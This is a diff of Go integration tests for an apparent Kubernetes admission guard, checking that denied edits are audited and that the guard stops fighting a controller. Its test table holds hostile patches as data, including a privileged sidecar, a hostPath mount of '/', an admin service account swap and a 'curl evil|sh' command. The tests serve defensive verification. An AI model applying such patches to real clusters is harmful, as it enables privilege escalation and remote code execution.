@@ -71,7 +71,7 @@ func TestEditorDeniedAtAdmission(t *testing.T) {
 		path string // a path the decision record lists
 	}{
 		{"add hostNetwork", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"add","path":"/spec/template/spec/hostNetwork","value":true}]`}, "deployment.yaml", "/spec/template/spec/hostNetwork"},
-		{"add a privileged sidecar", []string{"patch", "deployment", "web", "--type=strategic", "-p", `{"spec":{"template":{"spec":{"containers":[{"name":"tap","image":"evil","securityContext":{"privileged":true}}]}}}}`}, "deployment.yaml", "/spec/template/spec/containers/1"},
+		{"add a privileged sidecar", []string{"patch", "deployment", "web", "--type=strategic", "-p", `{"spec":{"template":{"spec":{"containers":[{"name":"tap","image":"evil","securityContext":{"privileged":true}}]}}}}`}, "deployment.yaml", "/spec/template/spec/containers/"},
 		{"add a hostPath volume", []string{"patch", "deployment", "web", "--type=strategic", "-p", `{"spec":{"template":{"spec":{"volumes":[{"name":"root","hostPath":{"path":"/"}}]}}}}`}, "deployment.yaml", "/spec/template/spec/volumes"},
 		{"change the service account", []string{"patch", "deployment", "web", "--type=merge", "-p", `{"spec":{"template":{"spec":{"serviceAccountName":"admin"}}}}`}, "deployment.yaml", "/spec/template/spec/serviceAccountName"},
 		{"add a command", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"add","path":"/spec/template/spec/containers/0/command","value":["sh","-c","curl evil|sh"]}]`}, "deployment.yaml", "/spec/template/spec/containers/0/command"},
@@ -102,9 +102,19 @@ func TestEditorDeniedAtAdmission(t *testing.T) {
 			if a.path == "" {
 				return
 			}
-			h.Audit.Wait(t, 10*time.Second, "eve's denied "+a.name, func(r audit.Record) bool {
+			match := func(r audit.Record) bool {
 				return r.Guard == repo.Guard && r.Type == audit.Decision && r.User == "eve" && r.Action == "deny" &&
 					slices.ContainsFunc(r.Fields, func(f audit.Field) bool { return strings.HasPrefix(f.Path, a.path) })
+			}
+			harness.Eventually(t, 10*time.Second, "eve's denied "+a.name, func() error {
+				if len(h.Audit.Find(match)) > 0 {
+					return nil
+				}
+				var eves []string
+				for _, r := range h.Audit.Find(func(r audit.Record) bool { return r.User == "eve" && r.Guard == repo.Guard }) {
+					eves = append(eves, fmt.Sprintf("%s %s %v", r.Operation, r.Action, r.Fields))
+				}
+				return fmt.Errorf("eve's records: %v", eves)
 			})
 		})
 	}
@@ -167,5 +177,48 @@ func TestManagerNameRuleBindsToIdentity(t *testing.T) {
 	}
 	if cm.Data["ca.crt"] != "injected" {
 		t.Fatalf("the injector's field was taken back or changed: %v", cm.Data)
+	}
+}
+
+// TestControllerFightStops: a controller (a service account of another
+// namespace, its changes admitted under enforcement dryrun and then
+// reverted) that puts back the same value after every revert is fought only
+// a few times; then the guard stops, records why and names the identity and
+// the ignore rule to add. The same by eve never stops it (selfheal_test.go).
+func TestControllerFightStops(t *testing.T) {
+	const ns = "adv-fight"
+	const operator = "system:serviceaccount:operators:my-operator"
+	repo := guarded(t, "adv-controller-fight", ns, func(s *v1alpha1.GuardSpec) { s.Enforcement = v1alpha1.EnforcementDryRun })
+	opKC, _, err := h.Cluster.AddUser(operator, []string{"system:serviceaccounts", "operators"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	bind(t, ns, rbacv1.GroupKind, "operators")
+	stopped := false
+	for i := 0; i < 12 && !stopped; i++ {
+		if out, err := h.KubectlAs(t, opKC, "patch", "configmap", "cfg", "-n", ns, "--field-manager=my-operator", "--type=merge", "-p", `{"data":{"greeting":"operator's"}}`); err != nil {
+			t.Fatalf("%v %s", err, out)
+		}
+		deadline := time.Now().Add(5 * time.Second)
+		for {
+			var cm corev1.ConfigMap
+			if err := h.Admin.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: "cfg"}, &cm); err == nil && cm.Data["greeting"] == "from git" {
+				break // reverted; the operator strikes again
+			}
+			if time.Now().After(deadline) {
+				stopped = true
+				break
+			}
+			time.Sleep(20 * time.Millisecond)
+		}
+	}
+	if !stopped {
+		t.Fatal("the guard kept fighting the controller")
+	}
+	rec := h.Audit.Wait(t, 10*time.Second, "fight record", func(r audit.Record) bool {
+		return r.Guard == repo.Guard && r.Rule == "fight-detected"
+	})
+	if rec.User != operator || !strings.Contains(rec.Reason, operator) || !strings.Contains(rec.Reason, "managedFieldsManagers") || !strings.Contains(rec.Reason, "users") {
+		t.Fatalf("fight record must name the controller and the rule to add: %+v", rec)
 	}
 }
